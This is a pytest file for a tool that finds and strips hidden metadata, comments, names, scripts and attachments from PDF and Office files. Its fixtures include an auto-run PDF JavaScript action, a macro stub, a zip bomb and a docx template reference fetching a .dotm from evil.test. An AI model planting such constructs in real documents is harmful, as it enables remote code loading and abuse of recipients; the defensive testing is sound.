"""PDF and Office files: what they hide is found, blank forms and own authors are left alone."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pypdf
import pytest
from PIL import Image
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from referable.checks.media import Known, check_document, document_texts, strip_document
from referable.checks.media.documents import check_document_bytes

KNOWN = Known.of(["Sample Practice", "Alex Example"])


def name(text: str) -> NameObject:
    return NameObject(text)


def text(words: str) -> TextStringObject:
    return TextStringObject(words)


def pdf(
    content: str = "BT /F1 12 Tf 72 720 Td (Neck pain) Tj ET",
    change: Callable[[Any, Any], None] | None = None,
) -> bytes:
    writer = pypdf.PdfWriter()
    page = writer.add_blank_page(612, 792)
    font = DictionaryObject(
        {
            name("/Type"): name("/Font"),
            name("/Subtype"): name("/Type1"),
            name("/BaseFont"): name("/Helvetica"),
        }
    )
    page[name("/Resources")] = DictionaryObject(
        {name("/Font"): DictionaryObject({name("/F1"): font})}
    )
    stream = DecodedStreamObject()
    stream.set_data(content.encode("latin-1"))
    page[name("/Contents")] = writer._add_object(stream)
    if change:
        change(writer, page)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def info(**values: str) -> Callable[[Any, Any], None]:
    return lambda writer, _page: writer.add_metadata({f"/{k}": v for k, v in values.items()})


def note(**values: Any) -> Callable[[Any, Any], None]:
    def change(writer: Any, page: Any) -> None:
        entries = {
            name("/Type"): name("/Annot"),
            name("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 50, 50)]),
        }
        entries.update({name(f"/{k}"): v for k, v in values.items()})
        page[name("/Annots")] = ArrayObject([writer._add_object(DictionaryObject(entries))])

    return change


def field(value: Any, kind: str = "/Tx") -> Callable[[Any, Any], None]:
    return note(Subtype=name("/Widget"), FT=name(kind), T=text("a"), V=value)


def xmp_author(writer: Any, _page: Any) -> None:
    writer.xmp_metadata = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        b'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator><rdf:Seq><rdf:li>Jane Sampleton'
        b"</rdf:li></rdf:Seq></dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>"
    )


def open_script(writer: Any, _page: Any) -> None:
    action = DictionaryObject({name("/S"): name("/JavaScript"), name("/JS"): text("app.alert(1)")})
    writer._root_object[name("/OpenAction")] = action


def hidden_layer(writer: Any, _page: Any) -> None:
    layer = writer._add_object(
        DictionaryObject({name("/Type"): name("/OCG"), name("/Name"): text("x")})
    )
    config = DictionaryObject({name("/OFF"): ArrayObject([layer])})
    writer._root_object[name("/OCProperties")] = DictionaryObject(
        {name("/OCGs"): ArrayObject([layer]), name("/D"): config}
    )


def office(kind: str = "word", **parts: str) -> bytes:
    files = {
        "[Content_Types].xml": "<Types/>",
        "_rels/.rels": "<Relationships/>",
        f"{kind}/document.xml": "<w:document><w:body><w:p><w:r><w:t>Neck pain</w:t></w:r></w:p></w:body></w:document>",
        "docProps/core.xml": "<cp:coreProperties><dc:creator>Alex Example</dc:creator><dcterms:created>2026-01-01</dcterms:created></cp:coreProperties>",
        "docProps/app.xml": "<Properties><Application>Microsoft Word</Application><Company>Sample Practice</Company></Properties>",
    }
    files.update({k.replace("__", "/") + ("" if "." in k else ".xml"): v for k, v in parts.items()})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for path, content in files.items():
            archive.writestr(path, content)
    return out.getvalue()


def photo_with_gps() -> bytes:
    data = Image.Exif()
    data.get_ifd(0x8825).update({1: "N", 2: (44.0, 30.0, 1.0)})
    out = io.BytesIO()
    Image.new("RGB", (20, 20), "teal").save(out, "JPEG", exif=data.tobytes())
    return out.getvalue()


def office_with(path: str, content: bytes) -> bytes:
    out = io.BytesIO(office())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(path, content)
    return out.getvalue()


def core(body: str) -> str:
    return f"<cp:coreProperties>{body}</cp:coreProperties>"


def body(run: str) -> str:
    return f"<w:document><w:body><w:p>{run}</w:p></w:body></w:document>"


BAR = "BT /F1 12 Tf 72 720 Td (Jane Sampleton) Tj ET 0 g 70 716 200 16 re f"
HAZARDS: dict[str, tuple[str, str, Callable[[], bytes]]] = {
    "pdf-author": ("media-person", "a.pdf", lambda: pdf(change=info(Author="Jane Sampleton"))),
    "pdf-title": ("media-person", "a.pdf", lambda: pdf(change=info(Title="Intake for Jennifer Sanderson"))),
    "pdf-keywords": ("media-person", "a.pdf", lambda: pdf(change=info(Keywords="DOB 1/2/1961"))),
    "pdf-custom": ("media-person", "a.pdf", lambda: pdf(change=info(Patient="Jennifer Sanderson"))),
    "pdf-xmp": ("media-person", "a.pdf", lambda: pdf(change=xmp_author)),
    "pdf-note": ("document-notes", "a.pdf", lambda: pdf(change=note(Subtype=name("/Text"), Contents=text("call Jane")))),
    "pdf-highlight-author": ("document-notes", "a.pdf", lambda: pdf(change=note(Subtype=name("/Highlight"), T=text("jsampleton")))),
    "pdf-field": ("document-values", "a.pdf", lambda: pdf(change=field(text("Jane Sampleton")))),
    "pdf-checkbox": ("document-values", "a.pdf", lambda: pdf(change=field(name("/Yes"), "/Btn"))),
    "pdf-attachment": ("document-attached", "a.pdf", lambda: pdf(change=lambda w, _p: w.add_attachment("list.csv", b"a,b"))),
    "pdf-script": ("document-active", "a.pdf", lambda: pdf(change=open_script)),
    "pdf-submit": ("document-active", "a.pdf", lambda: pdf(change=note(Subtype=name("/Widget"), A=DictionaryObject({name("/S"): name("/SubmitForm")})))),
    "pdf-invisible": ("document-hidden", "a.pdf", lambda: pdf("BT 3 Tr /F1 12 Tf 72 720 Td (Jane Sampleton) Tj ET")),
    "pdf-outside": ("document-hidden", "a.pdf", lambda: pdf("BT /F1 12 Tf 72 2000 Td (Jane Sampleton) Tj ET")),
    "pdf-bar": ("document-hidden", "a.pdf", lambda: pdf(BAR)),
    "pdf-layer": ("document-hidden", "a.pdf", lambda: pdf(change=hidden_layer)),
    "docx-author": ("media-person", "a.docx", lambda: office(docProps__core=core("<dc:creator>Jane Sampleton</dc:creator>"))),
    "docx-modified": ("media-person", "a.docx", lambda: office(docProps__core=core("<cp:lastModifiedBy>jsampleton</cp:lastModifiedBy>"))),
    "docx-custom": ("media-person", "a.docx", lambda: office(docProps__custom="<Properties><vt:lpwstr>Jennifer Sanderson, DOB 1/2/1961</vt:lpwstr></Properties>")),
    "docx-comment": ("document-notes", "a.docx", lambda: office(word__comments="<w:comments><w:comment w:author='x'/></w:comments>")),
    "docx-change": ("document-notes", "a.docx", lambda: office(word__document=body('<w:del w:author="J"><w:r><w:delText>Jane</w:delText></w:r></w:del>'))),
    "docx-hidden": ("document-hidden", "a.docx", lambda: office(word__document=body("<w:r><w:rPr><w:vanish/></w:rPr><w:t>Jane</w:t></w:r>"))),
    "docx-white": ("document-hidden", "a.docx", lambda: office(word__document=body('<w:r><w:rPr><w:color w:val="FFFFFF"/></w:rPr><w:t>Jane</w:t></w:r>'))),
    "docx-embedded": ("document-attached", "a.docx", lambda: office_with("word/embeddings/sheet1.xlsx", b"PK")),
    "docx-macro": ("document-active", "a.docm", lambda: office_with("word/vbaProject.bin", b"x")),
    "docx-template": ("document-active", "a.docx", lambda: office(**{"word___rels__settings.xml.rels": '<Relationship Type="http://x/attachedTemplate" Target="https://evil.test/a.dotm" TargetMode="External"/>'})),
    "docx-photo": ("media-location", "a.docx", lambda: office_with("word/media/image1.jpg", photo_with_gps())),
    "xlsx-sheet": ("document-hidden", "a.xlsx", lambda: office("x", xl__workbook='<workbook><sheets><sheet name="p" sheetId="2" state="hidden"/></sheets></workbook>')),
    "xlsx-rows": ("document-hidden", "a.xlsx", lambda: office("x", xl__worksheets__sheet1='<worksheet><row r="1" hidden="1"/></worksheet>')),
    "xlsx-pivot": ("document-hidden", "a.xlsx", lambda: office("x", xl__pivotCache__pivotCacheRecords1="<x/>")),
    "xlsx-comment": ("document-notes", "a.xlsx", lambda: office("x", xl__comments1="<comments/>")),
    "pptx-notes": ("document-notes", "a.pptx", lambda: office("x", ppt__notesSlides__notesSlide1="<p:notes><a:t>Say hello to Jane</a:t></p:notes>")),
    "pptx-slide": ("document-hidden", "a.pptx", lambda: office("x", ppt__slides__slide2='<p:sld show="0"/>')),
    "odt-author": ("media-person", "a.odt", lambda: office("x", meta="<office:meta><meta:initial-creator>Jane Sampleton</meta:initial-creator></office:meta>")),
    "odt-comment": ("document-notes", "a.odt", lambda: office("x", content="<x><office:annotation>Jane</office:annotation></x>")),
    "old-doc": ("media-unchecked", "a.doc", lambda: b"\xd0\xcf\x11\xe0" + bytes(600)),
    "locked": ("media-broken", "a.docx", lambda: b"\xd0\xcf\x11\xe0" + bytes(600)),
}  # fmt: skip
HARMLESS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "pdf": ("a.pdf", pdf),
    "pdf-own": ("a.pdf", lambda: pdf(change=info(Author="Alex Example, LMT", Title="Referral form", Creator="Typst 0.15", CreationDate="D:20260101"))),
    "pdf-practice": ("a.pdf", lambda: pdf(change=info(Author="Sample Practice", Subject="Neck pain"))),
    "pdf-generic": ("a.pdf", lambda: pdf(change=info(Author="Microsoft Office User"))),
    "pdf-link": ("a.pdf", lambda: pdf(change=note(Subtype=name("/Link"), A=DictionaryObject({name("/S"): name("/URI"), name("/URI"): text("https://doi.org/10.1000/x")})))),
    "pdf-blank-field": ("a.pdf", lambda: pdf(change=field(text("")))),
    "pdf-off-box": ("a.pdf", lambda: pdf(change=field(name("/Off"), "/Btn"))),
    "pdf-own-field": ("a.pdf", lambda: pdf(change=field(text("Sample Practice")))),
    "pdf-rule": ("a.pdf", lambda: pdf("0 g 72 700 400 1 re f BT /F1 12 Tf 72 720 Td (Neck pain) Tj ET")),
    "pdf-shade": ("a.pdf", lambda: pdf("0.9 g 70 716 200 16 re f BT 0 g /F1 12 Tf 72 720 Td (Neck pain) Tj ET")),
    "docx": ("a.docx", office),
    "docx-link": ("a.docx", lambda: office(**{"word___rels__document.xml.rels": '<Relationship Type="http://x/hyperlink" Target="https://doi.org/1" TargetMode="External"/>'})),
    "xlsx": ("a.xlsx", lambda: office("x", xl__workbook='<workbook><sheets><sheet name="Fees" sheetId="1"/></sheets></workbook>')),
}  # fmt: skip


@pytest.mark.parametrize("case", HAZARDS)
def test_hidden_part_is_found_and_masked(case: str) -> None:
    """Each hidden part is reported by its rule, without repeating what it says."""
    code, file, make = HAZARDS[case]

    found = check_document_bytes(make(), file, KNOWN)

    assert code in {d.code for d in found}
    assert not any("Sampleton" in d.message or "Sanderson" in d.message for d in found)


@pytest.mark.parametrize("case", HARMLESS)
def test_ordinary_document_is_left_alone(case: str) -> None:
    """Blank forms, own authors, links and programs' names are fine."""
    file, make = HARMLESS[case]

    assert check_document_bytes(make(), file, KNOWN) == []


@pytest.mark.parametrize(
    "case",
    ["pdf-author", "pdf-title", "pdf-custom", "pdf-xmp", "pdf-note", "pdf-attachment", "pdf-script",
     "docx-author", "docx-modified", "docx-custom", "docx-photo", "odt-author"],
)  # fmt: skip
def test_stripped_copy_is_clean(case: str, tmp_path: Path) -> None:
    """Metadata, notes, attachments and scripts are gone from the copy; the words stay."""
    _, file, make = HAZARDS[case]
    data = make()
    source, target = tmp_path / file, tmp_path / "out" / file
    source.write_bytes(data)

    found = strip_document(source, target, known=KNOWN)

    assert found == []
    assert source.read_bytes() == data
    assert check_document(target, known=KNOWN) == []
    if not file.endswith(".odt"):
        assert "Neck pain" in " ".join(words for _, words in document_texts(target))


@pytest.mark.parametrize(
    "case", ["pdf-field", "pdf-invisible", "pdf-bar", "docx-comment", "docx-change", "docx-hidden"]
)
def test_what_only_the_author_can_remove_is_still_named(case: str, tmp_path: Path) -> None:
    """Words that belong to the document are not taken out silently, but reported again."""
    code, file, make = HAZARDS[case]
    source = tmp_path / file
    source.write_bytes(make())

    found = strip_document(source, tmp_path / "out" / file, known=KNOWN)

    assert code in {d.code for d in found}


def test_clean_document_keeps_every_byte(tmp_path: Path) -> None:
    """A document with nothing to hide, such as an accessible PDF, is copied as it is."""
    source, target = tmp_path / "a.pdf", tmp_path / "b.pdf"
    source.write_bytes(pdf(change=info(Author="Sample Practice", Title="Referral form")))

    assert strip_document(source, target, known=KNOWN) == []
    assert target.read_bytes() == source.read_bytes()


@pytest.mark.parametrize("file", ["a.pdf", "a.docx"])
def test_damage_anywhere_never_raises(file: str) -> None:
    """Cut or changed at any place, a document gives diagnostics and no exception."""
    data = (
        pdf(change=note(Subtype=name("/Text"), Contents=text("x"))) if file == "a.pdf" else office()
    )
    step = max(1, len(data) // 40)

    for at in range(0, len(data), step):
        check_document_bytes(data[:at], file)
        check_document_bytes(data[:at] + b"\xff\x00" + data[at + 2 :], file)


def test_zip_bomb_is_refused() -> None:
    """An Office file that unfolds to hundreds of megabytes is a diagnostic."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", bytes(60_000_000))
        archive.writestr("docProps/core.xml", bytes(45_000_000))

    assert [d.code for d in check_document_bytes(out.getvalue(), "a.docx")] == ["media-too-large"]


def test_missing_and_locked_files_are_diagnostics(tmp_path: Path) -> None:
    """A file that is not there or needs a password is a diagnostic."""
    writer = pypdf.PdfWriter()
    writer.add_blank_page(100, 100)
    writer.encrypt("secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)

    assert [d.code for d in check_document(tmp_path / "none.pdf")] == ["media-broken"]
    assert [d.code for d in check_document_bytes(out.getvalue(), "a.pdf")] == ["media-broken"]
